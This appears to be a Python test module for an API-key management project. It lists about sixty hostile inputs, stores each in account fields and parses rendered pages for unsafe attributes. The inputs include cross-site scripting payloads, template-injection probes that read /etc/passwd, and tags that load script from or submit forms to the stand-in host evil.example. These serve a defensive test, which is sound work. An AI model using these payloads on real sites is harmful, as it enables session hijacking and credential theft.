"""Sixty texts that somebody may type so that a page does what they want, and an account that keeps all of them."""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import partial
from html.parser import HTMLParser
from typing import TypeAlias, TypeVar

from tests.doors.console.panorama import Panorama, panorama
from tests.doors.world import ACME, CATALOGUE, ORDERS, Credentials, done

from chaveiro.catalogue.known import KnownResource
from chaveiro.catalogue.route import Route
from chaveiro.catalogue.writing import written
from chaveiro.core.attempt import Need
from chaveiro.core.command import AddUser, BlockKey, CreateRole, DeactivateKey, GrantToKey, ImportCatalogue
from chaveiro.core.names import NameMalformed, Resource, email, plain_text, resource
from chaveiro.node import Issued

Named = TypeVar("Named")
ALERT = "window.owned=1"
HOSTILE: tuple[str, ...] = (
    # elements
    f"<script>{ALERT}</script>",
    f"<ScRiPt>{ALERT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<<script>{ALERT}//<</script>",
    f"<img src=x onerror={ALERT}>",
    f"<img src=x onerror={ALERT}//",
    f"<svg onload={ALERT}>",
    f"<svg/onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<body onload={ALERT}>",
    f"<details open ontoggle={ALERT}>",
    f"<input autofocus onfocus={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<marquee onstart={ALERT}>",
    f"<iframe srcdoc='<script>{ALERT}</script>'>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in</button>",
    "<style>*{display:none}</style>",
    f"<math><mtext><script>{ALERT}</script></mtext></math>",
    f"<template><script>{ALERT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    "<plaintext>",
    "<a href=//evil.example>",
    # out of what surrounds it
    f'"><script>{ALERT}</script>',
    f"'><script>{ALERT}</script>",
    f'" onmouseover="{ALERT}" x="',
    f"' onfocus='{ALERT}' autofocus='",
    f'" autofocus onfocus={ALERT} "',
    f"</title><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--",
    f"]]><script>{ALERT}</script>",
    f"</option></select><img src=x onerror={ALERT}>",
    f"</td></tr></table><img src=x onerror={ALERT}>",
    f"`><img src=x onerror={ALERT}>",
    "<!--",
    # for scripts, addresses and styles
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}//",
    f"data:text/html,<script>{ALERT}</script>",
    f"vbscript:{ALERT}",
    f"');{ALERT}//",
    f'";{ALERT}//',
    f"\\u003cscript\\u003e{ALERT}\\u003c/script\\u003e",
    "expression(alert(1))",
    "}*{background:url(//evil.example)}",
    f'" hx-on:click="{ALERT}',
    '" hx-get="//evil.example" hx-trigger="load',
    # for templates and messages
    "{{ 7919 * 7907 }}",
    "{% include '/etc/passwd' %}",
    "${7919*7907}",
    "%(password)s {0.__class__} {account} %s",
    # entities and letters
    f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    f"&#x3c;img src=x onerror={ALERT}&#x3e;",
    f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e",
    f"\u202e>tpircs/<{ALERT}",  # turns the order of letters
    f"<\x00script>{ALERT}</script>",
    f"%3Cscript%3E{ALERT}%3C/script%3E",
    "=HYPERLINK(//evil.example)",
)
Shape: TypeAlias = tuple[str, str]  # an element, and the name of an attribute it has; empty for the element itself
_ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data", "srcdoc", "xlink:href"}
_EVIL = re.compile(r"\s*(?:javascript|vbscript|data):|(?:[a-z]+:)?//evil\.example", re.IGNORECASE)


def harmless(place: int) -> str:
    """A text of nobody's concern, in the place of a hostile one."""
    return f"texto {place}"


class Tree(HTMLParser):
    """Every element of a page with the names of its attributes, and what must not be there whatever a template has."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shapes: set[Shape] = set()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or (name in _ADDRESSES and _EVIL.match(value or "")):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")


def stored(texts: Callable[[int], str]) -> Panorama:
    """An account in which each text stands in every field that keeps it. What a field refuses is not in it."""
    made = panorama()
    for place in range(len(HOSTILE)):
        _kept(made, texts(place), place)
    done(made.world.house, ImportCatalogue(ACME, _catalogue(texts)), made.ana)
    made.written()
    return made


def _kept(made: Panorama, text: str, place: int) -> None:
    node = made.world.house.node
    name = _or(partial(plain_text, text, what="name"), f"nome {place}")
    person = _or(partial(email, f"{text.replace(' ', '')}@acme.example"), email(f"p{place}@acme.example"))
    made.do(CreateRole(ACME, name, frozenset({_resource(text, place)})))
    made.do(AddUser(ACME, person, name))
    issued = node.issue(ACME, label=name, owner=name, by=made.ana)
    assert isinstance(issued, Issued), issued
    label = f"hostile {place}"
    made.world.pairs[label] = Credentials(issued.app_key, issued.token.reveal())
    made.do(GrantToKey(ACME, max(node.keyring(ACME).roles), issued.app_key))
    made.ask(label, text[:40], ORDERS)
    made.ask(label, "GET", f"{ORDERS}/{text}")
    made.ask(label, "GET", f"{ORDERS}?q={text}")
    made.ask(label, app_key=text)
    made.ask(label, token=text)
    made.ask(label, address=text[:60])
    stop = BlockKey if place % 2 else DeactivateKey
    made.do(stop(ACME, issued.app_key, name))


def _resource(text: str, place: int) -> Resource:
    part = text.replace("/", "")
    return _or(partial(resource, f"{part}/{part}"), Resource("OMS", f"Recurso {place}"))


def _catalogue(texts: Callable[[int], str]) -> str:
    """The routes there were, and resources and routes that are called by these texts."""
    held = range(len(HOSTILE))
    names = [_or(partial(plain_text, texts(place), what="name"), f"recurso {place}") for place in held]
    known = [KnownResource(_resource(texts(place), place), names[place], category=names[place]) for place in held]
    routes = [Route("GET", f"/api/h/{place}", Need((known[place].resource,)), note=names[place]) for place in held]
    return written((), name=names[4]) + CATALOGUE.replace('name = "orders"', "", 1) + written(routes, known)


def _or(read: Callable[[], Named], otherwise: Named) -> Named:
    try:
        return read()
    except NameMalformed:
        return otherwise
